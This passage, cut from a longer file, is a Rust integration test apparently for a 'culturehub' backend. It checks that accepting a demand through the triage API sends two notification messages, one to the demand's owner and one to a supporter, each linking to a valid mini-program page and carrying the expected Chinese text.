        .await;
    let (s, v) = app
        .post(
            &format!("/api/v1/demands/{id}/triage"),
            Some(&staff),
            json!({"status": "accepted"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    culturehub::worker::pass(app.state(), "w").await.unwrap();
    let sent: Vec<Value> = app
        .fake()
        .sent_messages()
        .into_iter()
        .filter(|m| m["template_id"] == "tmpl_demand_update")
        .collect();
    assert_eq!(sent.len(), 2, "{sent:?}");
    let app_json: Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../miniprogram/src/app.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let pages: Vec<&str> = app_json["pages"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p.as_str())
        .collect();
    for m in &sent {
        let page = m["page"].as_str().unwrap();
        let (path, query) = page.split_once('?').unwrap();
        assert!(pages.contains(&path), "{path} is not a mini-program page");
        assert_eq!(query, format!("id={id}"));
        let note = m["data"]["thing4"]["value"].as_str().unwrap();
        if m["touser"] == "o-demand-own" {
            assert_eq!(note, "您的需求已被采纳");
        } else {
            assert_eq!(m["touser"], "o-demand-fan");
            assert_eq!(note, "您支持的需求已被采纳");
        }
    }
}
both!(demand_message, demand_update_message);
